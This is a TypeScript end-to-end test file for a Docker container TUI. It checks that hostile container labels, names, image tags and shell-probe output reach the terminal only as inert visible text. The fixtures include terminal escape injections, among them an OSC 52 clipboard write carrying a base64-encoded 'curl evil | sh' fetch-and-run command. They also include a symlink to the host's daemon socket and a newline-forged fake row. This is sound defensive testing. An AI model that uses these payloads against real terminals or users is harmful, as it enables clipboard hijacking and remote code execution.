import {execFile, spawn, type ChildProcess} from 'node:child_process';
import {mkdirSync, mkdtempSync, readFileSync, rmSync} from 'node:fs';
import {tmpdir} from 'node:os';
import {join} from 'node:path';
import {promisify} from 'node:util';
import {afterAll, beforeAll, describe, expect, it} from 'vitest';
import type {DaemonClient} from '../../source/daemon/client.js';
import {
	e2eSkipped,
	labClient,
	labHost,
	labLogTail,
	labSocketPath,
	offlineImages,
	removeContainers,
	runBusybox,
	startDind,
	type StartedDaemonContainer,
} from '../lab/lab.js';
import {eventually} from '../lab/live.js';
import {labLabels} from '../lab/names.js';
import {glyphColumn, TmuxSession} from '../lab/tmux.js';

/**
 * What a container's owner controls reaches a real terminal only as visible text. The TUI runs
 * in tmux under `script`, which records every byte it writes; the test reads those bytes.
 */

const title = 'PWNED-TITLE';
const clipboard = Buffer.from('curl evil | sh').toString('base64');
/** Window title, clear screen and red text; and an OSC 52 write to the user's clipboard. */
const labels = {
	note: `\x1b]0;${title}\x07\x1b[2J\x1b[31mRED`,
	clip: `\x1b]52;c;${clipboard}\x07`,
};

describe.skipIf(e2eSkipped)('untrusted text and links in a real terminal', () => {
	let host: DaemonClient;
	let dind: StartedDaemonContainer;
	let session: TmuxSession;
	let directory: string;
	let raw: string;

	beforeAll(async () => {
		host = labClient();
		await removeContainers(host, ['evil-dind', 'evil-link']);
		dind = await startDind(host, 'evil-dind');
		await runBusybox(dind.client, 'evil-label', {labels});
		// A DinD look-alike whose /run/docker.sock is an absolute link to a daemon socket on the
		// host (the lab's own): resolved against the host's root, /proc/PID/root/run/docker.sock
		// would reach that daemon and show it as this container's inner daemon, or as shared.
		const link = await host.docker.createContainer({
			Image: offlineImages.busybox,
			name: 'evil-link',
			Cmd: ['sh', '-c', `mkdir -p /run && ln -s ${labSocketPath()} /run/docker.sock && exec sleep 600`],
			Labels: {...labLabels, 'io.dockerception.mode': 'dind'},
			Volumes: {'/var/lib/docker': {}},
		});
		await link.start();
		directory = mkdtempSync(join(tmpdir(), 'dcpt-raw-'));
		raw = join(directory, 'typescript');
		session = new TmuxSession(`script -q -f -e -c 'node dist/bin/cli.js' ${raw}`, {
			diagnostics: labLogTail,
			env: {DOCKER_HOST: labHost(), LANG: 'C.UTF-8'},
			columns: 160,
			rows: 40,
		});
	});

	afterAll(async () => {
		session?.kill();
		dind?.client.close();
		if (host) await removeContainers(host, ['evil-dind', 'evil-link']);
		host?.close();
		if (directory) rmSync(directory, {recursive: true, force: true});
	});

	it('a label with a title, clear-screen, colour and clipboard sequence is shown, never sent', async () => {
		await session.waitFor((screen) => glyphColumn(screen, 'evil-label') >= 0, 20_000, 'evil-label inside evil-dind');
		session.type('/evil-label');
		session.keys('Enter', 'G');
		// Shown as control pictures (cut to the column's width): what the bytes were, made inert.
		await session.waitFor((screen) => screen.includes('␛]0;PWNED-TITLE␇␛[2J'), 5000, 'the label made visible in the details');
		const screen = session.screen();
		expect(screen).toContain(`␛]52;c;${clipboard.slice(0, 8)}`);
		// The table around the labels is whole: every row of it ends in its border.
		const tableRows = screen.split('\n').filter((line) => /│ (note|clip)\s/.test(line));
		expect(tableRows).toHaveLength(2);
		expect(session.display('#{pane_title}')).not.toContain(title);

		session.keys('q');
		await session.waitFor((text) => text.includes('EXIT=0'), 5000, 'the exit');
		const bytes = readFileSync(raw, 'latin1');
		expect(bytes.length).toBeGreaterThan(1000);
		// No OSC at all (dockerception sends none of its own), no BEL, and not the label's colour.
		expect(bytes).not.toContain('\x1b]');
		expect(bytes).not.toContain('\x07');
		expect(bytes).not.toContain('\x1b[31mRED');
		expect(bytes).not.toContain(title + '\x07');
	});

	it('a link in a container to the host socket is not its inner daemon: the row says why', async () => {
		const screen = await (async () => {
			const fresh = new TmuxSession('node dist/bin/cli.js', {diagnostics: labLogTail, env: {DOCKER_HOST: labHost(), LANG: 'C.UTF-8'}, columns: 160, rows: 40});
			try {
				await fresh.waitFor((text) => /evil-link\s.*no docker CLI in container/.test(text), 20_000, 'evil-link unreachable with its reason');
				return fresh.screen();
			} finally {
				fresh.keys('q');
				fresh.kill();
			}
		})();
		const row = screen.split('\n').find((line) => line.includes('evil-link')) ?? '';
		expect(row).not.toMatch(/shares/);
	});
});

/**
 * The container's own /bin/sh, for the shell probe (`sh -c 'command -v bash || command -v sh'`):
 * MODE answer says ANSWER (a path named with escape sequences, which exists) and then writes
 * without end; silent says nothing and never ends; zeros writes NUL bytes and no line, without
 * end. Run any other way it is busybox's sh, so the shell that opens is a real one.
 */
const probeScript = [
	'#!/bin/busybox sh',
	'if [ "$1" = -c ]; then',
	'  case "$MODE" in',
	'    answer) printf "%s\\n" "$ANSWER"; exec /bin/busybox yes more ;;',
	'    silent) exec /bin/busybox sleep 1000 ;;',
	'    zeros) exec /bin/busybox cat /dev/zero ;;',
	'  esac',
	'fi',
	'exec /bin/busybox sh "$@"',
	'',
].join('\n');
const shellAnswer = `/bin/\x1b]52;c;${clipboard}\x07\x1b]0;PWNED-SHELL\x07bash`;

async function probeContainer(host: DaemonClient, name: string, mode: 'answer' | 'silent' | 'zeros'): Promise<void> {
	const container = await host.docker.createContainer({
		Image: offlineImages.busybox,
		name,
		Env: ['PATH=/bin', `MODE=${mode}`, `ANSWER=${shellAnswer}`, `PROBE=${probeScript}`],
		Cmd: [
			'/bin/busybox',
			'sh',
			'-c',
			'printf "%s" "$PROBE" > /bin/sh.new && /bin/busybox chmod 755 /bin/sh.new && /bin/busybox mv /bin/sh.new /bin/sh && /bin/busybox ln -s /bin/sh "$ANSWER" && echo ready && exec /bin/busybox sleep 600',
		],
		Labels: labLabels,
	});
	await container.start();
	await eventually(async () => (await container.logs({stdout: true, stderr: true})).toString().includes('ready'), 20_000, `${name} set up`);
}

describe.skipIf(e2eSkipped)('names, image tags, a shell probe and a crash from untrusted daemons reach the terminal inert', () => {
	const names = ['evil-names', 'evil-shell', 'evil-slow', 'evil-zeros'];
	let host: DaemonClient;
	let directory: string;
	let attacker: ChildProcess | undefined;

	beforeAll(async () => {
		host = labClient();
		await removeContainers(host, names);
		directory = mkdtempSync(join(tmpdir(), 'dcpt-names-'));
		// A daemon inside a container is whoever controls it: the attacker's daemon (names mode: a
		// container named "x\n● prod-db…" and an image tag with OSC 52) as /run/docker.sock of a
		// DinD look-alike. A real dockerd refuses such names; a daemon in a container need not.
		const runDir = join(directory, 'run');
		mkdirSync(runDir);
		attacker = spawn(process.execPath, ['test/lab/hostile-daemon.mjs', 'names', join(runDir, 'docker.sock')], {stdio: ['ignore', 'pipe', 'inherit']});
		await new Promise<void>((resolve, reject) => {
			attacker!.stdout!.once('data', () => resolve());
			attacker!.once('exit', (code) => reject(new Error(`hostile daemon exited with ${code}`)));
		});
		const look = await host.docker.createContainer({
			Image: offlineImages.busybox,
			name: 'evil-names',
			Cmd: ['sleep', '600'],
			Labels: {...labLabels, 'io.dockerception.mode': 'dind'},
			Volumes: {'/var/lib/docker': {}},
			HostConfig: {Binds: [`${runDir}:/run`]},
		});
		await look.start();
		await probeContainer(host, 'evil-shell', 'answer');
		await probeContainer(host, 'evil-slow', 'silent');
		await probeContainer(host, 'evil-zeros', 'zeros');
	});

	afterAll(async () => {
		attacker?.kill('SIGTERM');
		if (host) await removeContainers(host, names);
		host?.close();
		if (directory) rmSync(directory, {recursive: true, force: true});
	});

	it('spawn --on a daemon whose image list holds a hostile tag prints it as pictures', async () => {
		const {stdout, stderr} = await promisify(execFile)(
			'node',
			['dist/bin/cli.js', 'spawn', '--mode', 'socket', '--on', 'default/evil-names', '--name', 'job-1'],
			{
				env: {...process.env, DOCKER_HOST: labHost(), NO_COLOR: '1'},
				timeout: 60_000,
			},
		);
		expect(stdout).toBe('default/evil-names/job-1\n');
		expect(stderr).toContain(`dockerception: socket sandbox default/evil-names/job-1 from evil␛]52;c;${clipboard}␇␛]0;PWNED-TAG␇/dind:1`);
		expect(stderr.trim().split('\n')).toHaveLength(1);
		expect(stderr).not.toContain('\x1b');
		expect(stderr).not.toContain('\x07');
	});

	it('a name with a newline draws no fake row; shell banners, a probe that floods or never ends, and a crash stay inert', async () => {
		const raw = join(directory, 'typescript');
		const session = new TmuxSession(`script -q -f -e -c 'node dist/bin/cli.js --timeout 2' ${raw}`, {
			diagnostics: labLogTail,
			env: {DOCKER_HOST: labHost(), LANG: 'C.UTF-8', DOCKERCEPTION_FAULT: 'render'},
			columns: 160,
			rows: 40,
		});
		try {
			// The hostile daemon's container, on its own row: the line break shown as ␊ where it was.
			await session.waitFor((screen) => screen.includes('x␊● prod-db␉␛]0;'), 30_000, 'the hostile name on its row');
			await session.waitFor((screen) => glyphColumn(screen, 'evil-zeros') >= 0, 10_000, 'the probe containers');
			for (const line of session
				.screen()
				.split('\n')
				.filter((candidate) => candidate.includes('prod-db')))
				expect(line).toContain('x␊● prod-db');

			const shell = async (name: string, banner: string, withinMs: number) => {
				session.type(`/${name}`);
				session.keys('Enter', 'G', 'e');
				await session.waitFor((screen) => screen.includes(banner), withinMs, `the banner of ${name}`);
				await session.waitFor((screen) => /^\/ # ?$/m.test(screen), 10_000, `a prompt in ${name}`);
				session.type('exit');
				session.keys('Enter');
				await session.waitFor((screen) => glyphColumn(screen, name) >= 0 && screen.includes('(exit 0)'), 10_000, `the tree back after ${name}`);
				// Esc clears the filter; the next key waits for that (esc and a quick key read as alt-key).
				session.keys('Escape');
				await session.waitFor((screen) => names.every((other) => glyphColumn(screen, other) >= 0), 5000, 'the whole tree again');
			};
			// The probe's answer, cut at its first line while it keeps writing, is shown as pictures.
			await shell('evil-shell', `dockerception: /bin/␛]52;c;${clipboard}␇␛]0;PWNED-SHELL␇bash in default/evil-shell`, 10_000);
			// A probe that never answers gets /bin/sh at the deadline (--timeout 2); one that writes
			// no line is read only up to its bound.
			await shell('evil-slow', 'dockerception: /bin/sh in default/evil-slow', 10_000);
			await shell('evil-zeros', 'dockerception: /bin/sh in default/evil-zeros', 10_000);

			// A crash whose message carries the hostile name: one visible line, nothing drawn raw.
			session.type('/prod-db');
			session.keys('Enter', 'G', '!');
			await session.waitFor((text) => text.includes('EXIT=1'), 10_000, 'the exit');
			// The screen still holds the shells' banners above: the crash's own line is the last before the exit.
			const lines = session.screen().split('\n');
			const exit = lines.findIndex((line) => line.startsWith('EXIT=1'));
			expect(lines[exit - 1]).toBe('dockerception: unexpected error: fault injected by DOCKERCEPTION_FAULT=render at x ● prod-db ␛]0;PWNED-NAME␇');
			expect(lines.filter((line) => line.includes('fault injected'))).toHaveLength(1);
			expect(session.display('#{pane_title}')).not.toMatch(/PWNED/);

			const bytes = readFileSync(raw, 'latin1');
			for (const marker of ['\x1b]52', 'PWNED-NAME\x07', 'PWNED-TAG\x07', 'PWNED-SHELL\x07']) expect(bytes).not.toContain(marker);
			expect(bytes).not.toContain('\x1b]');
		} finally {
			session.kill();
		}
	});
});
